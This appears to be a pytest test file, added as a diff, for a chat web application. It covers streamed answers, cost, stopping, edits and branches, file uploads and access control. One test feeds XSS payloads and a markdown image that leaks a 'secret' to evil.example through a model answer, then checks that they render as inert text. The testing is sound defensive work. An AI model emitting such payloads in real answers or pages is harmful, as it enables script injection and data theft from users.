@@ -1,0 +1,246 @@
+"""The chat page: questions and answers, their stream and cost, stop, versions, files, hostile answers."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import json
+import re
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from PIL import Image
+
+from sixfold.core.database import many
+from tests.api.app_fixture import bearer
+from tests.api.gateway import Gateway, running_gateway
+from tests.api.test_pages import signed_in
+
+SCRIPT = {"Accept": "application/json"}
+
+
+def _png() -> bytes:
+    target = io.BytesIO()
+    Image.new("RGB", (8, 8), (200, 30, 30)).save(target, "PNG")
+    return target.getvalue()
+
+
+@pytest.fixture
+async def gateway(tmp_path: Path) -> AsyncIterator[Gateway]:
+    async with running_gateway(tmp_path) as found:
+        yield found
+
+
+@pytest.fixture
+async def any_database_gateway(either: Path) -> AsyncIterator[Gateway]:
+    """The same on SQLite, and then on PostgreSQL."""
+    async with running_gateway(either) as found:
+        yield found
+
+
+class Person:
+    """A signed-in person at the chat page."""
+
+    def __init__(self, gateway: Gateway, csrf: str) -> None:
+        self.gateway, self.client, self.csrf = gateway, gateway.app.client, csrf
+
+    @classmethod
+    async def of(cls, gateway: Gateway) -> Person:
+        return cls(gateway, await signed_in(gateway.app))
+
+    async def ask(self, text: str, path: str = "/chat", *, files: Any = None, **fields: str) -> Any:
+        """Send a message as the script does."""
+        form = {"csrf": self.csrf, "text": text, "model": "acme/small", **fields}
+        sent = files or [("file", ("", b"", "application/octet-stream"))]
+        return await self.client.post(path, data=form, files=sent, headers=SCRIPT)
+
+    async def asked(self, text: str, path: str = "/chat", **more: Any) -> str:
+        """Send a message, wait for its answer and return the path of the chat."""
+        answer = await self.ask(text, path, **more)
+        assert answer.status_code == 202, answer.text
+        where = answer.json()["location"]
+        assert (await self.events(where))[-1][0] == "end"
+        return where
+
+    async def act(self, path: str, headers: Any = None, **fields: str) -> Any:
+        return await self.client.post(path, data={"csrf": self.csrf, **fields}, headers=headers or {})
+
+    async def events(self, path: str) -> list[tuple[str, dict[str, Any]]]:
+        """The stream of a chat, to its end."""
+        answer = await self.client.get(f"{path}/events")
+        assert answer.status_code == 200, answer.text
+        found = re.findall(r"event: (\w+)\ndata: (.*)\n\n", answer.text)
+        return [(name, json.loads(data)) for name, data in found]
+
+    async def page(self, path: str) -> str:
+        answer = await self.client.get(path)
+        assert answer.status_code == 200
+        return answer.text
+
+    def ids(self, page: str, role: str) -> list[str]:
+        """The ids of the messages of a page."""
+        return re.findall(rf'class="message {role}" id="m-(\w+)"', page)
+
+
+async def test_answer_is_streamed_stored_and_charged(any_database_gateway: Gateway) -> None:
+    gateway = any_database_gateway
+    person = await Person.of(gateway)
+    sent = await person.ask("say 3 words")
+    where = sent.json()["location"]
+    events = await person.events(where)
+    assert [name for name, _ in events if name in ("begin", "end")] == ["begin", "end"]
+    assert "<p>word word word</p>" in events[-1][1]["html"]
+    # 10 tokens in, 4 of them cached, and 3 out.
+    assert events[-1][1]["total"] == "0.0038"
+    assert (await gateway.settled())[0]["cost_usd"] == "0.0038"
+    await person.asked("say 2 words", where)
+    page = await person.page(where)
+    assert page.count('class="message answer"') == page.count('class="message question"') == 2
+    assert gateway.acme.seen[-1].document["messages"][1] == {"role": "assistant", "content": "word word word"}
+    conversation_id = where.rpartition("/")[2]
+    items = await gateway.openai().conversations.items.list(conversation_id, order="asc")
+    assert [getattr(item, "role", "") for item in items.data] == ["user", "assistant"] * 2
+    own = {"account_id": gateway.app.account.id, "after": "", "limit": 10}
+    rows = await gateway.app.product.database.read(many("export_conversation_items", **own))
+    assert json.loads(rows[1]["detail"])["model"] == "acme/small"
+    assert await gateway.app.faults() == ()
+
+
+async def test_form_without_script_waits_for_the_answer(gateway: Gateway) -> None:
+    person = await Person.of(gateway)
+    form = {"csrf": person.csrf, "text": "say 3 words", "model": "acme/small"}
+    answer = await person.client.post("/chat", data=form, files=[("file", ("", b"", "text/plain"))])
+    assert answer.status_code == 303
+    page = await person.page(answer.headers["location"].partition("#")[0])
+    assert "<p>word word word</p>" in page
+    empty = {**form, "text": " "}
+    answer = await person.client.post("/chat", data=empty, files=[("file", ("", b"", "text/plain"))])
+    assert (answer.status_code, "Write a message first" in answer.text) == (400, True)
+
+
+async def test_stop_ends_the_call_and_charges_what_was_delivered(any_database_gateway: Gateway) -> None:
+    gateway = any_database_gateway
+    person = await Person.of(gateway)
+    gateway.acme.mode = "trickle"
+    where = (await person.ask("say 20 words")).json()["location"]
+    reading = asyncio.create_task(person.events(where))
+    async with asyncio.timeout(30):
+        while "<p>word" not in await person.page(where):  # noqa: ASYNC110 - the page has no event
+            await asyncio.sleep(0.01)
+        assert (await person.act(f"{where}/stop", SCRIPT)).status_code == 202
+        events = await reading
+        await gateway.acme.left.wait()
+    assert "Stopped." in events[-1][1]["html"]
+    call = (await gateway.settled())[0]
+    words = events[-1][1]["html"].count("word") - call["model"].count("word")
+    assert (call["status"], 0 < words < 20) == ("left", True)
+    assert f"{events[-1][1]['total']}"[:4] == call["cost_usd"][:4]
+    assert await gateway.pending() == 0
+    assert await gateway.app.faults() == ()
+
+
+async def test_failed_answer_costs_nothing_and_is_asked_again_in_place(gateway: Gateway) -> None:
+    person = await Person.of(gateway)
+    gateway.acme.modes = ["fail"]
+    where = await person.asked("say 3 words")
+    page = await person.page(where)
+    assert "Try again" in page
+    assert (await gateway.settled())[0]["cost_usd"] == "0.00"
+    item = person.ids(page, "question")[0]
+    again = await person.act(f"{where}/again", SCRIPT, item=item, model="acme/small")
+    assert again.json()["location"] == where
+    await person.events(where)
+    page = await person.page(where)
+    assert ("Try again" in page, person.ids(page, "question")) == (False, [item])
+
+
+async def test_edit_makes_a_version_and_a_branch_a_chat(any_database_gateway: Gateway) -> None:
+    person = await Person.of(any_database_gateway)
+    first = await person.asked("say 1 words")
+    await person.asked("say 2 words", first)
+    page = await person.page(first)
+    question, answer = person.ids(page, "question")[1], person.ids(page, "answer")[0]
+    assert "say 2 words</textarea>" in await person.page(f"{first}?edit={question}")
+    second = await person.asked("say 4 words", first, edited=question)
+    third = (await person.act(f"{second}/again", SCRIPT, item=question, model="acme/small")).status_code
+    assert third == 404
+    edited = person.ids(await person.page(second), "question")[1]
+    again = await person.act(f"{second}/again", SCRIPT, item=edited, model="acme/small")
+    await person.events(again.json()["location"])
+    for path, number in ((first, 1), (second, 2), (again.json()["location"], 3)):
+        page = await person.page(path)
+        assert f"<span>{number} of 3</span>" in page
+        assert page.count('class="message question"') == 2
+    branch = await person.act(f"{second}/branch", item=answer)
+    page = await person.page(branch.headers["location"])
+    assert ("(branch)" in page, page.count('class="message answer"')) == (True, 1)
+    assert page.count('<li><a href="/chat/') == 2
+    await person.act(f"{second}/rename", title="Words of mine")
+    assert "<h1>Words of mine</h1>" in await person.page(first)
+    await person.act(f"{second}/delete")
+    assert [(await person.client.get(path)).status_code for path in (first, second)] == [404, 404]
+    assert (await person.client.get(branch.headers["location"])).status_code == 200
+
+
+async def test_hostile_answer_is_only_text(gateway: Gateway) -> None:
+    person = await Person.of(gateway)
+    gateway.acme.answer = (
+        "<script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) "
+        "![steal](https://evil.example/?q=secret) $\\href{javascript:alert(1)}{x}$ [ok](https://ok.example)"
+    )
+    where = await person.asked("hello")
+    page = await person.page(where)
+    content = page.partition('<div class="content">')[2].partition("</div>")[0]
+    assert "<script" not in content
+    assert "<img" not in content
+    assert not re.search(r'(?:href|src)="(?!https://(?:ok|evil)\.example)', content)
+    assert 'href="https://ok.example" rel="noopener noreferrer nofollow ugc"' in content
+    assert 'class="external-image" href="https://evil.example' in content
+
+
+async def test_files_reach_the_model_and_their_account_only(gateway: Gateway) -> None:
+    person = await Person.of(gateway)
+    files = [
+        ("file", ("dot.png", _png(), "image/png")),
+        ("file", ("notes.csv", b"a,b\n1,2\n", "text/csv")),
+    ]
+    where = await person.asked("What is this?", files=files)
+    content = gateway.acme.seen[-1].document["messages"][0]["content"]
+    assert content[0]["image_url"]["url"].startswith("data:image/png;base64,")
+    assert content[1]["text"] == '<document name="notes.csv">\na,b\n1,2\n</document>'
+    found = re.findall(r"/chat-files/\w+", await person.page(where))
+    image = await person.client.get(found[0])
+    assert (image.headers["content-type"], image.content) == ("image/png", _png())
+    assert image.headers["content-security-policy"] == "default-src 'none'; sandbox"
+    refused = await person.ask("x", files=[("file", ("a.exe", b"MZ\0\0", "image/png"))])
+    assert (refused.status_code, "a.exe cannot be attached" in refused.json()["error"]) == (400, True)
+    stranger = gateway.app.visitor()
+    assert (await stranger.get(found[0])).status_code == 401
+    assert (await stranger.get(f"{where}/events")).status_code == 401
+    listed = await gateway.app.client.get("/v1/files", headers=bearer(gateway.app.other))
+    assert listed.json()["data"] == []
+
+
+async def test_server_that_ends_keeps_what_was_answered(gateway: Gateway) -> None:
+    person = await Person.of(gateway)
+    gateway.acme.mode = "trickle"
+    where = (await person.ask("say 20 words")).json()["location"]
+    async with asyncio.timeout(30):
+        while "<p>word" not in await person.page(where):  # noqa: ASYNC110 - the page has no event
+            await asyncio.sleep(0.01)
+    refused = await person.ask("And now?", where)
+    assert "A response to this conversation is being made" in refused.json()["error"]
+    await gateway.app.product.gateway_runtime.answers.close()
+    page = await person.page(where)
+    assert ("word" in page, "Stopped." in page) == (True, True)
+    assert (await gateway.settled())[0]["status"] == "left"
+
+
+async def test_page_without_a_model_says_what_to_do(tmp_path: Path) -> None:
+    async with running_gateway(tmp_path, upstreams={}, aliases={}, prices={}) as gateway:
+        person = await Person.of(gateway)
+        page = await person.page("/chat")
+        assert "No chat model is connected yet" in page
+        assert '<form id="composer"' not in page
